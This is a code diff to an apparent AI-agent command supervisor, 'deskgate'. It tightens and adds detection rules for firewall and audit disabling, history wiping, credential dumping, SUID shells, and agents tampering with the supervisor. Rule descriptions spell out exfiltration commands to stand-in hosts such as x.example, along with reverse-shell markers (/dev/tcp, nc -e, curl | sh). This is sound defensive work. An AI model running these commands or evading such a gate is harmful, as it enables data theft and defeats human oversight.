@@ -12,8 +12,12 @@ gate/allow.py). Choices worth knowing:
   `file_delete` action does (`[shell] confirm_file_deletes`), except under /tmp.
 - Installing a named package (`pip install requests`) asks: it puts new code on the machine. Installing
   a project's declared dependencies (`npm ci`, `pip install -r requirements.txt`) does not.
-- Wiping system logs is blocked (anti-forensics); clearing one's own shell history asks
-  (defense-evasion): it is also something people do for privacy.
+- Wiping system logs is blocked (anti-forensics), and so is switching a defence off: the firewall,
+  SELinux/AppArmor, auditing, security services, the shell history (an agent has no privacy to keep).
+- Judging by effect (gate/rules/shell_effects.py, table in resources/programs.toml): a program the table
+  does not describe, or a code-running flag of one it does, asks (`[shell] unknown_programs`); attacks on
+  deskgate itself, a whole home sent off the machine, SUID shells, password-hash reads, sysrq and
+  persistence that runs a network shell block.
 - A finding inside `ssh host ...` keeps its decision: destroying a remote root is as catastrophic.
 """
 
@@ -25,9 +29,12 @@ import re
 from collections.abc import Callable, Iterable
 
 from gate.model import Risk
-from gate.policy import ShellPolicy
+from gate.paths import supervisor_dirs
+from gate.policy import FilesPolicy, ShellPolicy
+from gate.rules import shell_effects
 from gate.rules.base import Context, Rule
 from gate.shell import (
+    _WRAPPERS,
     DOWNLOADERS,
     HOME,
     INTERPRETERS,
@@ -216,8 +223,13 @@ _SECRET_VAR = re.compile(r"(secret|token|passw|api_?key|access_?key|private|cred
 class Detector:
     """The shell detectors, compiled for one ShellPolicy."""
 
-    def __init__(self, policy: ShellPolicy) -> None:
+    def __init__(self, policy: ShellPolicy, files: FilesPolicy | None = None) -> None:
         self.policy = policy
+        self.ask_unknown = policy.unknown_programs == "confirm"
+        self.supervisor = _any([*(files.supervisor_paths if files else ()), *supervisor_dirs()])
+        self.dumps = _any(files.credential_dumps if files else _DEFAULT_DUMPS)
+        self.key_dirs = re.compile(r"(^|/)\.(ssh|gnupg|aws|password-store|kube|docker)/?$|"
+                                   r"(^|/)\.mozilla/firefox/?$|(^|/)\.config/(google-chrome|chromium)/?$")
         prot = [_seg_glob(resolve_path(p) or p) for p in policy.protected_paths]
         self.protected = re.compile(rf"^(?:{'|'.join(prot)})/?$") if prot else None
         trees = [re.escape(resolve_path(p) or p) for p in policy.system_trees]
@@ -236,6 +248,23 @@ class Detector:
         self.grouped = functools.lru_cache(maxsize=4096)(lambda analysis: _grouped(self.run(analysis)))
 
     # -- path predicates ------------------------------------------------------------------------
+
+    def supervisor_path(self, path: str) -> bool:
+        return bool(self.supervisor and self.supervisor.search(path))
+
+    def credential_dump(self, path: str) -> bool:
+        return bool(self.dumps and self.dumps.search(path))
+
+    def secret_dir(self, path: str) -> bool:
+        return bool(self.key_dirs.search(path.rstrip("/")))
+
+    def persistence_path(self, path: str) -> bool:
+        return bool(self.persistence and self.persistence.search(path))
+
+    @staticmethod
+    def judged(name: str) -> bool:
+        """Programs a detector here judges by name: they are described, whatever the table says."""
+        return name in _JUDGED
 
     def resolve(self, cmd: Command, word: str) -> str | None:
         return resolve_path(word, cmd.cwd or None)
@@ -324,8 +353,10 @@ class Detector:
         for name, value in analysis.assignments:
             self.assignment(name, value, add)
         downloaded: dict[str, str] = {}
+        written: dict[str, str] = {}
         for cmd in cmds:
             self.command(cmd, analysis, add, downloaded)
+            shell_effects.judge(self, cmd, analysis, _where(cmd), add, written)
         seen: set[tuple[str, str]] = set()
         unique = []
         for f in out:
@@ -338,7 +369,7 @@ class Detector:
         v = value.strip().lower()
         if (name == "histfile" and v in ("/dev/null", "")) or \
                 (name in ("histsize", "histfilesize", "savehist") and v == "0"):
-            add(Finding("confirm.shell.defense-evasion", Risk.HIGH,
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL,
                         f"stops shell history from being kept ({name.upper()}={value})", f"{name}={value}"))
 
     def command(self, cmd: Command, analysis: ShellAnalysis, add: Callable[[Finding], None],
@@ -395,7 +426,7 @@ class Detector:
         path = self.resolve(cmd, target)
         if path is None:
             if _HISTORY_FILE.search(target) and mode == "overwrite":
-                add(Finding("confirm.shell.defense-evasion", Risk.MEDIUM, f"empties the shell history ({target})",
+                add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"empties the shell history ({target})",
                             cmd.span))
             return
         shown = display_path(path)
@@ -424,7 +455,7 @@ class Detector:
             return
         if _HISTORY_FILE.search(path):
             if mode == "overwrite":
-                add(Finding("confirm.shell.defense-evasion", Risk.MEDIUM, f"empties the shell history {shown}",
+                add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"empties the shell history {shown}",
                             cmd.span))
             return
         if self.persistence is not None and self.persistence.search(path):
@@ -536,7 +567,7 @@ class Detector:
                             f"deletes the system log {display_path(path)}{where}", cmd.span))
                 continue
             if _HISTORY_FILE.search(path or word.lower()):
-                add(Finding("confirm.shell.defense-evasion", Risk.MEDIUM, f"deletes the shell history {word}",
+                add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"deletes the shell history {word}",
                             cmd.span))
                 continue
             if path and ".." in word.split("/") and word.startswith(("/", "~")) and \
@@ -1017,7 +1048,7 @@ class Detector:
             return
         security = [u for u in units if u in self.security or u.startswith(("selinux", "apparmor", "firewall"))]
         if security and verb in ("stop", "disable", "mask", "kill"):
-            add(Finding("confirm.shell.defense-evasion", Risk.HIGH,
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL,
                         f"{verb}s the security service {', '.join(security)}{where}", cmd.span))
             return
         critical = [u for u in units if u in self.critical]
@@ -1098,39 +1129,48 @@ class Detector:
         name = cmd.name
         if name == "ufw":
             if words[:1] == ["disable"] or words[:1] == ["reset"]:
-                add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"ufw {words[0]}: switches the firewall "
+                add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"ufw {words[0]}: switches the firewall "
                             f"off{where}", cmd.span))
             elif words[:1] and words[0] in ("allow", "deny", "reject", "delete", "default", "limit", "insert"):
                 add(Finding("confirm.shell.network", Risk.MEDIUM, f"ufw {words[0]}: changes firewall rules{where}",
                             cmd.span))
             return
         if name == "setenforce" and words[:1] and words[0] in ("0", "permissive"):
-            add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"setenforce {words[0]}: switches SELinux "
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"setenforce {words[0]}: switches SELinux "
                         f"enforcement off{where}", cmd.span))
             return
         if name == "auditctl" and ("-d" in words or "-D" in cmd.argv or ("-e" in words and "0" in words)):
-            add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"auditctl {' '.join(cmd.argv[1:3])}: switches "
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"auditctl {' '.join(cmd.argv[1:3])}: switches "
                         f"auditing off{where}", cmd.span))
             return
         if name in ("spctl", "csrutil") and {"--master-disable", "disable", "--global-disable"} & set(words):
-            add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"{name} disables a system protection{where}",
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"{name} disables a system protection{where}",
                         cmd.span))
             return
         if name == "netsh" and "advfirewall" in words and "off" in words:
-            add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"netsh turns the firewall off{where}", cmd.span))
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"netsh turns the firewall off{where}", cmd.span))
             return
         if name == "set-mppreference" and any(w.startswith("-disable") for w in words):
-            add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"disables Windows Defender protection{where}",
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"disables Windows Defender protection{where}",
                         cmd.span))
             return
         if name in ("iptables", "ip6tables", "ebtables", "arptables", "iptables-legacy", "iptables-nft"):
             mut = [a for a in cmd.argv[1:] if a in ("-F", "-X", "-P", "-D", "-A", "-I", "-R", "-Z", "-N", "-E",
                                                      "--flush", "--delete-chain", "--policy", "--delete", "--append",
                                                      "--insert", "--replace", "--zero")]
-            if mut:
+            off = [a for a in mut if a in ("-F", "--flush", "-X", "--delete-chain")] or \
+                (("-P" in mut or "--policy" in mut) and "accept" in cmd.words)
+            if off:
+                add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"{name} {' '.join(cmd.argv[1:4])}: "
+                            f"switches the firewall off{where}", cmd.span))
+            elif mut:
                 add(Finding("confirm.shell.network", Risk.HIGH if mut[0] in ("-F", "--flush", "-P", "--policy", "-X")
                             else Risk.MEDIUM, f"{name} {' '.join(cmd.argv[1:4])}: changes the firewall{where}",
                             cmd.span))
+            return
+        if name == "nft" and words[:2] == ["flush", "ruleset"]:
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"nft flush ruleset: switches the firewall "
+                        f"off{where}", cmd.span))
             return
         if name == "iptables-restore" or (name == "nft" and words[:1] and words[0] in ("flush", "delete", "add",
                                                                                      "insert", "replace", "-f")):
@@ -1172,13 +1212,13 @@ class Detector:
     def history(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
         words = list(cmd.words[1:])
         if any(w in ("-c", "-d", "-w", "-r", "-cw") or w.startswith("-c") for w in words):
-            add(Finding("confirm.shell.defense-evasion", Risk.MEDIUM, f"history {' '.join(words)}: clears or "
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"history {' '.join(words)}: clears or "
                         f"rewrites the shell history{where}", cmd.span))
 
     def unset(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
         if any(w in ("histfile", "histsize", "histfilesize") for w in cmd.words[1:]) or \
                 (cmd.name == "set" and "+o" in cmd.words and "history" in cmd.words):
-            add(Finding("confirm.shell.defense-evasion", Risk.MEDIUM, f"{cmd.text}: stops the shell history{where}",
+            add(Finding("block.shell.defense-evasion", Risk.CRITICAL, f"{cmd.text}: stops the shell history{where}",
                         cmd.span))
 
     def logs(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
@@ -1389,6 +1429,15 @@ def _perl_sed(d: Detector, cmd: Command, a: ShellAnalysis, where: str, add: Call
 
 _BY_NAME["perl"] = _perl_sed
 
+# every program some detector above judges by name (the effect table need not describe these again)
+_JUDGED = frozenset({*_BY_NAME, *_DELETERS, *_DB_CLIENTS, *_NET_TOOLS, *_LOLBINS, *_PKG_INSTALL, *_PKG_REMOVE,
+                     *_PUBLISH, *_INFRA_DESTROY, *DOWNLOADERS, *NET_SENDERS, *SHELLS, *INTERPRETERS, *_WRAPPERS,
+                     *_POWER, *_KILLERS, *_DISK_TOOLS, "drop", "truncate", "delete", "alter", "update", "sudo",
+                     "doas", "pkexec", "su", "gsudo", "eval", "source", ".", "iex", "invoke-expression", "ssh",
+                     "autossh", "env", "timeout", "gtimeout", "parallel", "runas", "cmd", "script", "deskgate"})
+# password databases, when no [files] policy is given
+_DEFAULT_DUMPS = ['^/(private/)?etc/(g?shadow-?|master\\.passwd)$', '/windows/system32/config/(sam|security)$']
+
 
 def _python_manage(d: Detector, cmd: Command, a: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
     if len(cmd.words) > 1 and cmd.words[1].endswith("manage.py"):
@@ -1401,23 +1450,25 @@ for _n in ("python", "python3"):
 
 # -- per-policy detector cache and the entry points ---------------------------------------------
 
-_DETECTORS: dict[int, tuple[ShellPolicy, Detector]] = {}
+_DETECTORS: dict[tuple[int, int], tuple[ShellPolicy, FilesPolicy | None, Detector]] = {}
 
 
-def _detector(policy: ShellPolicy) -> Detector:
-    entry = _DETECTORS.get(id(policy))
-    if entry is not None and entry[0] is policy:
-        return entry[1]
+def _detector(policy: ShellPolicy, files: FilesPolicy | None = None) -> Detector:
+    key = (id(policy), id(files))
+    entry = _DETECTORS.get(key)
+    if entry is not None and entry[0] is policy and entry[1] is files:
+        return entry[2]
     if len(_DETECTORS) > 32:
         _DETECTORS.clear()
-    detector = Detector(policy)
-    _DETECTORS[id(policy)] = (policy, detector)  # keeps the policy alive, so its id stays unique
+    detector = Detector(policy, files)
+    _DETECTORS[key] = (policy, files, detector)  # keeps the policies alive, so their ids stay unique
     return detector
 
 
-def findings(analysis: ShellAnalysis, policy: ShellPolicy) -> tuple[Finding, ...]:
-    """Every shell finding for `analysis` under `policy` (cached per policy and analysis)."""
-    return _detector(policy).run(analysis)
+def findings(analysis: ShellAnalysis, policy: ShellPolicy, files: FilesPolicy | None = None) -> tuple[Finding, ...]:
+    """Every shell finding for `analysis` under `policy` (cached per policy and analysis). `files` gives the
+    path vocabulary shared with file actions (deskgate's own paths, password databases)."""
+    return _detector(policy, files).run(analysis)
 
 
 def shell_findings(ctx: Context) -> tuple[Finding, ...]:
@@ -1425,7 +1476,7 @@ def shell_findings(ctx: Context) -> tuple[Finding, ...]:
     facts = ctx.derived(command_facts)
     if facts is None:
         return ()
-    return findings(facts, ctx.policy.shell)
+    return findings(facts, ctx.policy.shell, ctx.policy.files)
 
 
 def _grouped(found: tuple[Finding, ...]) -> dict[str, tuple[str, Risk]]:
@@ -1449,7 +1500,7 @@ def shell_verdicts(ctx: Context) -> dict[str, tuple[str, Risk]]:
     facts = ctx.derived(command_facts)
     if facts is None:
         return _NOTHING
-    detector = _detector(ctx.policy.shell)
+    detector = _detector(ctx.policy.shell, ctx.policy.files)
     return detector.grouped(facts)
 
 
@@ -1501,6 +1552,40 @@ RULES: tuple[Rule, ...] = (
           "/usr/bin/bash) or a protected path."),
     _make("block.shell.policy-pattern", "policy block pattern", Risk.CRITICAL,
           "A simple command matches one of the policy's `[shell] block_patterns`."),
+    _make("block.shell.supervisor-tamper", "attacks deskgate itself", Risk.CRITICAL,
+          "The agent runs deskgate's control verbs that belong to the person (`deskgate resume`, `unpause`, "
+          "`serve`, `run`, `revoke`, `log prune`, any verb not known to be harmless), stops deskgate (pkill, "
+          "systemctl stop), or writes, deletes, moves or re-permissions deskgate's config, policy, kill state, "
+          "socket or audit files (`[files] supervisor_paths` and the XDG directories)."),
+    _make("block.shell.exfiltration", "data sent off the machine", Risk.CRITICAL,
+          "A whole home directory or a key directory archived or copied to a network sink (tar ~ | ssh, "
+          "rsync ~/.ssh host:), DNS lookups or URLs built from command output (nslookup $(whoami).x.example, "
+          "curl x.example/?d=$(cat f | base64)), ping -p with command output."),
+    _make("block.shell.suid-shell", "setuid shell", Risk.CRITICAL,
+          "chmod u+s / 4755 (or install -m 4755, setcap cap_setuid) on a shell or interpreter, or on a copy of "
+          "one made in the same command: root for anyone who runs it."),
+    _make("block.shell.credential-dump", "dumps password hashes", Risk.CRITICAL,
+          "Reading a password database (`[files] credential_dumps`: /etc/shadow, SAM) by any program, or "
+          "running a credential dumper (unshadow, mimikatz, secretsdump, reg save HKLM\\SAM)."),
+    _make("block.shell.sysrq", "kernel emergency keys", Risk.CRITICAL,
+          "Writing /proc/sysrq-trigger or enabling sysrq: crashes, reboots or kills everything at once."),
+    _make("block.shell.malicious-persistence", "persistence that runs a network shell", Risk.CRITICAL,
+          "A crontab entry, shell startup file or other persistence path written with a reverse shell or "
+          "downloaded code (curl | sh, /dev/tcp, nc -e) in it."),
+    _make("block.shell.defense-evasion", "switches a defence off", Risk.CRITICAL,
+          "Disabling or flushing the firewall (ufw disable, iptables -F, nft flush ruleset, netsh advfirewall "
+          "off), SELinux/AppArmor/Gatekeeper/SIP, auditing or a security service (`[shell] security_services`), "
+          "Defender; clearing or switching off the shell history (history -c, unset HISTFILE, HISTSIZE=0)."),
+    _make("confirm.shell.unknown-program", "unknown program or effect", Risk.MEDIUM,
+          "A program resources/programs.toml does not describe, or a flag whose value is code the gate does not "
+          "model (vim -c, gdb -ex, tar --checkpoint-action, awk system(), sed e, git -c core.pager): the gate "
+          "cannot tell what it does (`[shell] unknown_programs`; a policy allow rule can let it through)."),
+    _make("confirm.shell.shell-spawn", "starts an interactive shell", Risk.HIGH,
+          "A shell with no script, no -c and no input (`ionice /bin/sh`, `vim -c ':sh'`, `rsync -e 'sh'`): "
+          "a way out of whatever wrapped it; what it will run is unknown."),
+    _make("confirm.shell.credential-search", "searches for credentials", Risk.HIGH,
+          "Recursive searches for passwords, secrets, API keys or private keys (grep -r password, rg "
+          "'BEGIN.*PRIVATE'), and searches for key or credential files (find -name id_rsa, locate .pem)."),
     _make("confirm.shell.privilege-escalation", "runs as administrator", Risk.HIGH,
           "sudo, doas, pkexec, su, runas; setuid bits, setcap, account and password changes, containers with "
           "host-level access (--privileged, / mounted)."),
